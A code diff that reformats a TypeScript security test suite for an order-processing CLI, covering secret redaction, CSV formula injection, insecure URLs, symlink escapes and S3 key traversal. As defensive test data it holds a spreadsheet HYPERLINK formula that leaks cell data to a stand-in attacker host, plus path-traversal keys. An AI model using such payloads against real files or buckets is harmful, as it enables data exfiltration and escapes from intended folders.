@@ -71,11 +71,14 @@ jobs:
 
 describe('no secret in logs or reports', () => {
   it('run at trace level, through expired tokens, 401s, 5xx and resets: no secret, token or signed query', async () => {
-    await sandbox.admin.setFaults([
-      { route: 'POST /Jobs', when: 'create', kind: 'create-then-500', times: 1 },
-      { route: '*', kind: 'status', status: 503, retryAfterSeconds: 0, probability: 0.2 },
-      { route: 'GET /Lookups/countries', kind: 'reset', times: 1 },
-    ], 5);
+    await sandbox.admin.setFaults(
+      [
+        { route: 'POST /Jobs', when: 'create', kind: 'create-then-500', times: 1 },
+        { route: '*', kind: 'status', status: 503, retryAfterSeconds: 0, probability: 0.2 },
+        { route: 'GET /Lookups/countries', kind: 'reset', times: 1 },
+      ],
+      5,
+    );
     await sandbox.admin.expireTokens();
     const file = join(work.path, 'print.yaml');
     await writeFile(file, PRINT);
@@ -106,7 +109,10 @@ describe('CSV formula injection', () => {
     const evil = ['=HYPERLINK("http://evil.example/?"&A1;"x")', '+SUM(1;2)', '@cmd', '-2+3', '\t=1'];
     const q = (v: string) => `"${v.replace(/"/g, '""')}"`;
     const rows = evil.map((v, i) => `PO-F${i},${q(v)},UPSGND,1 Main St,Austin,TX,78701,US,Asset,A10001,50,${q(v)}`);
-    await writeFile(file, `orderNumber,description,deliveryMethod,streetAddress,city,state,postalCode,country,itemType,code,quantity,customerReference\n${rows.join('\n')}\n`);
+    await writeFile(
+      file,
+      `orderNumber,description,deliveryMethod,streetAddress,city,state,postalCode,country,itemType,code,quantity,customerReference\n${rows.join('\n')}\n`,
+    );
     const r = await htorder(['check', file], env());
     expect(r.code).toBe(0);
     const cells = (parseCsv(await readFile(`${file}.result.csv`, 'utf8'), { bom: true }) as string[][]).flat();
@@ -119,7 +125,10 @@ describe('plain-http API URLs', () => {
   it('a non-loopback http base or auth URL is refused (exit 2) before anything is sent', async () => {
     const file = join(work.path, 'print.yaml');
     await writeFile(file, PRINT);
-    const insecure: Record<string, string>[] = [{ HTORDER_BASE_URL: 'http://api.example.com/api' }, { HTORDER_AUTH_URL: 'http://auth.example.com/auth' }];
+    const insecure: Record<string, string>[] = [
+      { HTORDER_BASE_URL: 'http://api.example.com/api' },
+      { HTORDER_AUTH_URL: 'http://auth.example.com/auth' },
+    ];
     for (const e of insecure) {
       const r = await htorder(['run', file], env(e));
       expect(r.code).toBe(2);
@@ -135,7 +144,12 @@ describe('plain-http API URLs', () => {
     if (!other) return; // the platform cannot bind 127.0.0.2 (macOS without an alias)
     try {
       const r = other.regions.us!;
-      const e = { HTORDER_BASE_URL: r.baseUrl, HTORDER_AUTH_URL: r.authUrl, HTORDER_REALM: r.realm, HTORDER_CLIENT_SECRET: other.accounts.find((a) => a.name === 'us-demo')!.clientSecret };
+      const e = {
+        HTORDER_BASE_URL: r.baseUrl,
+        HTORDER_AUTH_URL: r.authUrl,
+        HTORDER_REALM: r.realm,
+        HTORDER_CLIENT_SECRET: other.accounts.find((a) => a.name === 'us-demo')!.clientSecret,
+      };
       const refused = await htorder(['api', 'GET', '/account'], env(e));
       expect(refused.code).toBe(2);
       const allowed = await htorder(['api', 'GET', '/account'], env({ ...e, HTORDER_ALLOW_INSECURE: '1' }));
@@ -156,8 +170,17 @@ describe('watch: nothing outside its folders', () => {
       await writeFile(join(drop.path, 'ok.yaml'), manifest('OK', 1));
       const w = await startWatch({ target: drop.path }, env({ HTORDER_LOG_LEVEL: 'debug' }));
       try {
-        await waitFor(async () => ((await readdir(join(drop.path, 'done'))).includes('ok.yaml') ? true : undefined), 'ok.yaml done');
-        await waitFor(() => (w.logs().some((l) => String(l.msg).includes('symbolic link') || JSON.stringify(l).includes('symbolic link')) ? true : undefined), 'the link refused');
+        await waitFor(
+          async () => ((await readdir(join(drop.path, 'done'))).includes('ok.yaml') ? true : undefined),
+          'ok.yaml done',
+        );
+        await waitFor(
+          () =>
+            w.logs().some((l) => String(l.msg).includes('symbolic link') || JSON.stringify(l).includes('symbolic link'))
+              ? true
+              : undefined,
+          'the link refused',
+        );
       } finally {
         expect(await w.stop()).toBe(0);
       }
@@ -170,37 +193,47 @@ describe('watch: nothing outside its folders', () => {
     }
   });
 
-  it.each(['done', 'processing', 'failed'])('a %s/ sub-folder that is a symbolic link to elsewhere is refused', async (sub) => {
-    const outside = await tempDir('htorder-outside-');
-    const drop = await tempDir('htorder-drop-');
-    try {
-      await symlink(outside.path, join(drop.path, sub));
-      await writeFile(join(drop.path, 'a.yaml'), manifest('SUB', 1));
-      const w = await startWatch({ target: drop.path }, env()).then(
-        (x) => x,
-        (err: Error) => err,
-      );
-      if (!(w instanceof Error)) {
-        // Started anyway: then it must at least not have written outside.
-        await new Promise((r) => setTimeout(r, 1500));
-        await w.stop();
+  it.each(['done', 'processing', 'failed'])(
+    'a %s/ sub-folder that is a symbolic link to elsewhere is refused',
+    async (sub) => {
+      const outside = await tempDir('htorder-outside-');
+      const drop = await tempDir('htorder-drop-');
+      try {
+        await symlink(outside.path, join(drop.path, sub));
+        await writeFile(join(drop.path, 'a.yaml'), manifest('SUB', 1));
+        const w = await startWatch({ target: drop.path }, env()).then(
+          (x) => x,
+          (err: Error) => err,
+        );
+        if (!(w instanceof Error)) {
+          // Started anyway: then it must at least not have written outside.
+          await new Promise((r) => setTimeout(r, 1500));
+          await w.stop();
+        }
+        expect(await readdir(outside.path)).toEqual([]);
+        expect(w).toBeInstanceOf(Error);
+        expect(String(w)).toMatch(/symbolic link/);
+        expect(await sandbox.admin.jobs()).toEqual([]);
+      } finally {
+        await outside.remove();
+        await drop.remove();
       }
-      expect(await readdir(outside.path)).toEqual([]);
-      expect(w).toBeInstanceOf(Error);
-      expect(String(w)).toMatch(/symbolic link/);
-      expect(await sandbox.admin.jobs()).toEqual([]);
-    } finally {
-      await outside.remove();
-      await drop.remove();
-    }
-  });
+    },
+  );
 
   it('S3 keys with path segments, "..", backslashes or NUL are never inputs', async () => {
     const s3 = await startTestS3({ conditional: true });
     const local = await tempDir('htorder-s3-local-');
     try {
       const names = ['in/../evil.yaml', 'in/sub/x.yaml', 'in/..\\..\\evil.yaml', 'in/..', 'in/good.yaml'];
-      for (const key of names) await s3.client.send(new PutObjectCommand({ Bucket: s3.bucket, Key: key, Body: manifest(key.includes('good') ? 'GOOD' : 'EVIL', 1) }));
+      for (const key of names)
+        await s3.client.send(
+          new PutObjectCommand({
+            Bucket: s3.bucket,
+            Key: key,
+            Body: manifest(key.includes('good') ? 'GOOD' : 'EVIL', 1),
+          }),
+        );
       const w = await startWatch({ target: `s3://${s3.bucket}/in/` }, { ...env(), ...s3.env });
       try {
         await waitFor(async () => {
